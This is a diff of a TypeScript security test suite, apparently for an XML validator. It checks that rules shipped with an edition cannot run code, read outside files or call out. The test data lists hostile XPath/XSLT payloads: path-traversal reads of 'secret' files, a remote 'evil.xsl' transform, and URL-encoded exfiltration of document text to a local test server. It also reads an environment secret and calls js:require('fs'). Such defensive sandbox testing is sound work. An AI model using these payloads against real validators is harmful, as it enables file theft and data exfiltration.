@@ -1,7 +1,5 @@
 import { spawnSync } from 'node:child_process';
 import { existsSync, writeFileSync } from 'node:fs';
-import { createServer, type Server } from 'node:http';
-import type { AddressInfo } from 'node:net';
 import { join } from 'node:path';
 import { pathToFileURL } from 'node:url';
 import { afterAll, beforeAll, describe, expect, test } from 'vitest';
@@ -12,30 +10,20 @@ import { exampleFile } from '../../src/validate/example.ts';
 import { validate } from '../../src/validate/run.ts';
 import { runSchema } from '../../src/validate/schematron/run-rules-process.ts';
 import { newFolder } from '../harness/scratch.ts';
+import { outsideWorld, secret } from './outside-world.ts';
 
 /**
  * Rules that come with an edition try to run code, to read what is not theirs and to call out. Every attempt is made for real, by a file that
  * names the rules; each wall is tried alone as well, since one hole must not be enough.
  */
 
-let server: Server;
-let calls = 0;
-let web = '';
+const world = outsideWorld();
 const folder = newFolder();
 const canary = join(folder, 'canary');
-const secret = 'THE-SECRET-OF-THE-HOUSE';
-
-beforeAll(async () => {
-  server = createServer((_, response) => {
-    calls++;
-    response.end(`<s>${secret}</s>`);
-  });
-  await new Promise<void>((done) => server.listen(0, 'localhost', done));
-  web = `http://localhost:${(server.address() as AddressInfo).port}`;
+beforeAll(() => {
   process.env['OCTAVO_TEST_SECRET'] = secret;
 });
 afterAll(() => {
-  server.close();
   delete process.env['OCTAVO_TEST_SECRET'];
 });
 
@@ -160,7 +148,7 @@ const attempts: Readonly<Record<string, () => string>> = {
       ),
     ),
   'fn:transform of a file': () => schema(says(`transform(map{'stylesheet-location': '${outsideAddress}/evil.xsl'})`)),
-  'load-xquery-module': () => schema(says(`load-xquery-module('urn:x', map{'location-hints': '${web}/m.xq'})`)),
+  'load-xquery-module': () => schema(says(`load-xquery-module('urn:x', map{'location-hints': '${world.web}/m.xq'})`)),
   'xsl:result-document': () =>
     schema(
       says('f:x()'),
@@ -182,16 +170,16 @@ const attempts: Readonly<Record<string, () => string>> = {
   'doc of an address that is put together': () => schema(says(`doc(concat('fi', 'le://${outside}/sec', 'ret.xml'))`)),
   'doc with an encoded way': () => schema(says(`doc('%2e%2e/%2e%2e/..${outside}/secret.xml')`)),
   'document of a file outside': () => schema(says(`document('${outsideAddress}/secret.xml')`)),
-  'doc of the web': () => schema(says(`doc('${web}/a.xml')`)),
-  'doc-available of the web': () => schema(says(`doc-available('${web}/a.xml')`)),
-  'doc with the text in the address': () => schema(says(`doc(concat('${web}/', encode-for-uri(string(.))))`)),
+  'doc of the web': () => schema(says(`doc('${world.web}/a.xml')`)),
+  'doc-available of the web': () => schema(says(`doc-available('${world.web}/a.xml')`)),
+  'doc with the text in the address': () => schema(says(`doc(concat('${world.web}/', encode-for-uri(string(.))))`)),
   collection: () => schema(says(`collection('${outsideAddress}')`)),
   'uri-collection': () => schema(says(`uri-collection('${outsideAddress}')`)),
   'unparsed-text': () => schema(says(`unparsed-text('${outsideAddress}/secret.txt')`)),
   'unparsed-text-lines': () => schema(says(`unparsed-text-lines('${outsideAddress}/secret.txt')`)),
-  'unparsed-text-available of the web': () => schema(says(`unparsed-text-available('${web}/x')`)),
+  'unparsed-text-available of the web': () => schema(says(`unparsed-text-available('${world.web}/x')`)),
   'unparsed-text as a value': () => schema(says(`('${outsideAddress}/secret.txt') ! unparsed-text#1(.)`)),
-  'json-doc': () => schema(says(`json-doc('${web}/x.json')`)),
+  'json-doc': () => schema(says(`json-doc('${world.web}/x.json')`)),
   'environment-variable': () => schema(says(`environment-variable('OCTAVO_TEST_SECRET')`)),
   'available-environment-variables': () => schema(says('available-environment-variables()')),
   'available-system-properties': () => schema(says('available-system-properties()')),
@@ -221,7 +209,7 @@ describe('rules that a file names', () => {
     const edition = newFolder(files);
     const { findings } = await validate({ schemas: [], paths: [edition] });
     expect(existsSync(canary)).toBe(false);
-    expect(calls).toBe(0);
+    expect(world.calls).toBe(0);
     expect(JSON.stringify(findings)).not.toContain(secret);
     const about = (i: number): string[] =>
       findings
@@ -263,8 +251,8 @@ describe('each wall alone', () => {
     ['js:require', `"N":"ifCall","name":"Q{${js}}require"`, () => 'fs'],
     ['ixsl:get', `"N":"ifCall","name":"Q{${ixsl}}get"`, () => 'process'],
     ['unparsed-text of a file', '"N":"fn","name":"unparsed-text"', () => `${outsideAddress}/secret.txt`],
-    ['unparsed-text of the web', '"N":"fn","name":"unparsed-text"', () => `${web}/x`],
-    ['doc of the web', '"N":"fn","name":"doc"', () => `${web}/x`],
+    ['unparsed-text of the web', '"N":"fn","name":"unparsed-text"', () => `${world.web}/x`],
+    ['doc of the web', '"N":"fn","name":"doc"', () => `${world.web}/x`],
   ])(
     'the process gives nothing away where the list lets %s through',
     async (_, call, argument) => {
@@ -272,7 +260,7 @@ describe('each wall alone', () => {
       expect(outcome).toContain('"error"');
       expect(outcome).not.toContain(secret);
       expect(existsSync(canary)).toBe(false);
-      expect(calls).toBe(0);
+      expect(world.calls).toBe(0);
     },
     60_000,
   );
